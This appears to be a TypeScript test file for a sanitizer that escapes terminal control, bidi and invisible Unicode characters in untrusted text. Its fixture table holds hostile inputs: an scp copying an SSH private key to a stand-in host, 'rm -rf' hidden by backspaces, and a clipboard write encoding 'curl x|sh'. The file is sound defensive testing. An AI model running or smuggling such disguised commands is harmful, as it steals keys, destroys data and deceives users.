import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inert, inertJson } from './untrusted-text.js';

// Anything a terminal acts on or renders invisibly: C0/C1 controls, DEL, bidi, zero-width, separators, tags.
const DANGEROUS =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are exactly the characters looked for
  /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u;

const HOSTILE: [string, string, string][] = [
  [
    'carriage return hides the real command',
    'scp ~/.ssh/id_rsa x.example:\rls -la',
    'scp ~/.ssh/id_rsa x.example:\\rls -la',
  ],
  ['CSI erase line', 'evil\u001b[2K\u001b[1Gls -la', 'evil\\x1b[2K\\x1b[1Gls -la'],
  ['OSC 52 clipboard write', '\u001b]52;c;Y3VybCB4fHNo\u0007', '\\x1b]52;c;Y3VybCB4fHNo\\x07'],
  [
    'OSC 8 hyperlink',
    '\u001b]8;;https://evil\u001b\\ok\u001b]8;;\u001b\\',
    '\\x1b]8;;https://evil\\x1b\\ok\\x1b]8;;\\x1b\\',
  ],
  ['C1 CSI', 'a\u009b31mb', 'a\\x9b31mb'],
  [
    'forged extra line',
    'rm -rf /\n  - benign: reads a file [fs.read]',
    'rm -rf /\\n  - benign: reads a file [fs.read]',
  ],
  [
    'bidi override reverses the shown text',
    'echo \u202eftp.lave moc\u202c',
    'echo \\u202eftp.lave moc\\u202c',
  ],
  ['bidi isolate', 'a\u2067b\u2069', 'a\\u2067b\\u2069'],
  ['zero width joiner in a host', 'git\u200dhub.com', 'git\\u200dhub.com'],
  ['unicode tag smuggling', `x${String.fromCodePoint(0xe0041)}`, 'x\\u{e0041}'],
  ['unassigned code point', `x${String.fromCodePoint(0xe0000)}`, 'x\\u{e0000}'],
  ['backspace', 'rm -rf ~\b\b\b\b\b\b\b\bls', 'rm -rf ~\\x08\\x08\\x08\\x08\\x08\\x08\\x08\\x08ls'],
];

describe('inert', () => {
  it.each(HOSTILE)('%s', (_name, input, shown) => {
    expect(inert(input)).toBe(shown);
    expect(inert(input)).not.toMatch(DANGEROUS);
  });

  it('leaves ordinary text alone, non-ASCII letters included', () => {
    for (const s of ['git push origin main', 'café ~/projets/été', '日本語 ✓', 'sed s/\\./x/'])
      expect(inert(s)).toBe(s);
  });

  it('never lets a dangerous character through, for any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => !DANGEROUS.test(inert(s))),
      { numRuns: 2000 },
    );
  });
});

describe('inertJson', () => {
  it('is valid JSON for the same value, with nothing dangerous raw, and keeps layout newlines', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.string({ unit: 'binary', maxLength: 60 })), (v) => {
        const out = inertJson(v, 2);
        expect(JSON.parse(out)).toEqual(v);
        return !DANGEROUS.test(out.replaceAll('\n', ''));
      }),
      { numRuns: 1000 },
    );
    expect(inertJson({ a: 1 }, 2)).toBe('{\n  "a": 1\n}');
  });
});
